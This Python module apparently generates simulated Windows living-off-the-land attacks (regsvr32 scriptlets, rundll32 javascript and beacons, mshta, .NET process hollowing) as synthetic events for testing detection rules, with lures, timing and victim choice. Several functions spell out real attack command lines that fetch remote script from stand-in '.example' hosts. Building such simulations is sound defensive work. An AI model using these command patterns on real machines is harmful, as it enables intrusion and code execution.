"""Attacks that borrow programs of Windows, modelled on recorded ones, and the plan of when and where they happen.

Nothing of it is dangerous: no command line does anything but name what a real one would, names end in `example`, and
addresses are of the networks set aside for documentation (203.0.113.0/24 and 2001:db8::/32), which belong to nobody.
Rules must hold those for public to see the attacks. RegSvcs and RegAsm speak IPv6 only, because special-use networks
of IPv4 are what rules about them leave out.

Every fourth minute has one attack of `LOUD_SCENARIOS`, on a machine whose events arrive at once, so that some alert is
due in each five minutes. More happen here and there, mostly on laptops away from the office; those are told of late.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from lolbin_rules.simulation import images
from lolbin_rules.simulation.chance import dice
from lolbin_rules.simulation.delays import delivery
from lolbin_rules.simulation.hosts import Host
from lolbin_rules.simulation.images import Image
from lolbin_rules.simulation.moments import MINUTE, SECOND
from lolbin_rules.simulation.processes import Process
from lolbin_rules.simulation.programs import pause
from lolbin_rules.simulation.stage import Stage
from lolbin_rules.simulation.wire import Endpoint

__all__ = ["LATEST_START", "LOUD_SCENARIOS", "SCENARIOS", "attack", "planned_attack"]

LATEST_START: Final = 15 * SECOND
_EVERY: Final = 4
_CHANCE: Final = 1 / 500
_CHANCE_AWAY: Final = 1 / 15

_LAIRS: Final = (
    "cdn.files-share",
    "static.invoice-portal",
    "api.quick-sync",
    "update.office-addins",
    "img.parcel-track",
)


@dataclass(frozen=True, slots=True)
class _Scenario:
    act: Callable[[Stage, int], None]
    is_loud: bool
    needs_sysmon: bool = False


def planned_attack(seed: int, host: Host, peers: tuple[Host, ...], minute: int, *, is_away: bool) -> str | None:
    """Which attack happens on the machine in the minute that starts at `minute`, if one does."""
    if minute // MINUTE % _EVERY == 0:
        roll = dice(seed, "attack", minute)
        scenario = roll.choice(LOUD_SCENARIOS)
        place = roll.randrange(len(peers))
        return scenario if host is _victim(seed, peers, place, minute, scenario) else None
    roll = dice(seed, "further attack", host.name, minute)
    if host.role == "server" or roll.random() >= (_CHANCE_AWAY if is_away else _CHANCE):
        return None
    return roll.choice(tuple(SCENARIOS))


def attack(stage: Stage, at: int, scenario: str) -> None:
    """Let the attack happen; it is over within 40 seconds."""
    stage.scenario = scenario
    SCENARIOS[scenario].act(stage, at)
    stage.scenario = None


def _victim(seed: int, peers: tuple[Host, ...], place: int, minute: int, scenario: str) -> Host:
    """The first machine from `place` on whose events of this attack arrive at once; the very first always will do."""
    for step in range(len(peers)):
        host = peers[(place + step) % len(peers)]
        if host.role == "server" or (host.has_defend and SCENARIOS[scenario].needs_sysmon):
            continue
        if delivery(seed, host, minute).is_prompt(minute, minute + MINUTE):
            return host
    return peers[0]


def _lair(stage: Stage, *, speaks_ipv6: bool = False) -> Endpoint:
    """Where the attacker waits."""
    roll = stage.roll
    place = roll.randrange(len(_LAIRS))
    port = roll.choice((443, 443, 80, 8080, 8443))
    name = f"{_LAIRS[place]}.example"
    if speaks_ipv6 or roll.random() < 0.25:  # noqa: PLR2004 - some do
        return Endpoint(f"2001:db8:bad:{place + 1}::{roll.randrange(2, 240):x}", port, name)
    return Endpoint(f"203.0.113.{roll.randrange(2, 255)}", port, name)


def _url(lair: Endpoint, file: str) -> str:
    scheme = "https" if lair.port in {443, 8443} else "http"
    return f"{scheme}://{lair.name}{'' if lair.port in {80, 443} else f':{lair.port}'}/{file}"


def _lure(stage: Stage, at: int) -> Process:
    """What makes the first step: a document that came by mail, or a shell that somebody typed into."""
    roll, user = stage.roll, stage.host.user
    way = roll.choice(("word", "excel", "shell"))
    if way == "shell":
        return stage.start(at, images.POWERSHELL, (), stage.running["explorer"])
    image, kind = (images.WINWORD, "docm") if way == "word" else (images.EXCEL, "xlsm")
    folder = f"C:\\Users\\{user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7K2PQ1XA"
    document = f"{folder}\\invoice-{roll.randrange(1000, 9999)}.{kind}"
    stage.write(at, stage.running["outlook"], document)
    return stage.start(at + pause(roll, 500, 1500), image, ("/n", document), stage.running["outlook"])


def _fetch(stage: Stage, at: int, tool: Process, lair: Endpoint) -> None:
    """A program asks for the attacker's address and goes there: 1 s."""
    stage.resolve(at + pause(stage.roll, 20, 200), tool, lair)
    stage.connect(at + pause(stage.roll, 300, 1000), tool, lair)


def _look_around(stage: Stage, at: int, tool: Process) -> None:
    """What was fetched does something: 2 s."""
    shell = stage.start(at, images.CMD, ("/c", "whoami", "/all"), tool)
    child = stage.start(at + 90, images.WHOAMI, ("/all",), shell)
    stage.end(at + pause(stage.roll, 200, 900), child)
    stage.end(at + pause(stage.roll, 900, 2000), shell)


def _regsvr32_scriptlet(stage: Stage, at: int) -> None:
    lair = _lair(stage)
    file = f"{stage.roll.choice(('launcher', 'style', 'ui', 'sync'))}.sct"
    lure = _lure(stage, at)
    tool = stage.start(at + 3000, images.REGSVR32, ("/s", "/n", "/u", f"/i:{_url(lair, file)}", "scrobj.dll"), lure)
    _fetch(stage, at + 3100, tool, lair)
    folder = f"C:\\Users\\{stage.host.user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\QX4M81TB"
    stage.write(at + 4300, tool, f"{folder}\\{file.replace('.', '[1].')}")
    _look_around(stage, at + 5000, tool)
    stage.end(at + pause(stage.roll, 7000, 12_000), tool)


def _rundll32_javascript(stage: Stage, at: int) -> None:
    lair = _lair(stage)
    # recorded ones go on with the script; here it is only named
    script = f'javascript:"\\..\\mshtml,RunHTMLApplication ";simulated("{_url(lair, "payload.sct")}")'
    tool = stage.start(at + 3000, images.RUNDLL32, (script,), _lure(stage, at))
    _fetch(stage, at + 3200, tool, lair)
    _look_around(stage, at + 5000, tool)
    stage.end(at + pause(stage.roll, 7000, 12_000), tool)


def _rundll32_beacon(stage: Stage, at: int) -> None:
    roll, lair = stage.roll, _lair(stage)
    library = f"C:\\Users\\{stage.host.user.name}\\AppData\\Local\\Temp\\{roll.choice(('upd', 'msx', 'cache'))}.dat"
    lure = _lure(stage, at)
    stage.write(at + 2500, lure, library)
    tool = stage.start(at + 3000, images.RUNDLL32, (f"{library},#1",), lure)
    stage.resolve(at + 3200, tool, lair)
    for beat in range(roll.randrange(2, 5)):
        stage.connect(at + 3500 + 10 * SECOND * beat + pause(roll, 0, 200), tool, lair)


def _rundll32_url(stage: Stage, at: int) -> None:
    lair = _lair(stage)
    url = _url(lair, "form.hta")
    tool = stage.start(at + 3000, images.RUNDLL32, ("url.dll,OpenURL", url), _lure(stage, at))
    page = stage.start(at + 3300, images.MSHTA, (url,), tool)
    stage.end(at + 3900, tool)
    _fetch(stage, at + 4000, page, lair)
    _look_around(stage, at + 6000, page)
    stage.end(at + pause(stage.roll, 9000, 15_000), page)


def _hollow(stage: Stage, at: int, image: Image) -> None:
    """A program from a user's folder starts one of .NET without arguments and puts its own code in."""
    roll, lair = stage.roll, _lair(stage, speaks_ipv6=True)
    path = f"C:\\Users\\{stage.host.user.name}\\AppData\\Roaming\\{roll.choice(('scan', 'order', 'dhl'))}_copy.exe"
    dropper = Image(path, "Simulated dropper", "dropper.exe", "Simulated", "Simulated", "1.0.0.0")
    lure = _lure(stage, at)
    stage.write(at + 1900, lure, path)
    started = stage.start(at + 2300, dropper, (), lure)
    hull = stage.start(at + 3300, image, (), started)
    stage.end(at + 3600, started)
    post = Endpoint(lair.address, roll.choice((587, 443, 465)), lair.name)
    _fetch(stage, at + 4500, hull, post)
    stage.connect(at + 14 * SECOND, hull, post)


SCENARIOS: Final = {
    "regsvr32-scriptlet": _Scenario(_regsvr32_scriptlet, is_loud=True),
    "rundll32-javascript": _Scenario(_rundll32_javascript, is_loud=True),
    "rundll32-beacon": _Scenario(_rundll32_beacon, is_loud=True),
    "regsvcs-hollowed": _Scenario(
        lambda stage, at: _hollow(stage, at, images.REGSVCS), is_loud=True, needs_sysmon=True
    ),
    "regasm-hollowed": _Scenario(lambda stage, at: _hollow(stage, at, images.REGASM), is_loud=False),
    "rundll32-url": _Scenario(_rundll32_url, is_loud=False),
}
"""By the name that events bear as `labels.scenario`. Of the loud ones, the shipped rules alert."""

LOUD_SCENARIOS: Final = tuple(name for name, scenario in SCENARIOS.items() if scenario.is_loud)
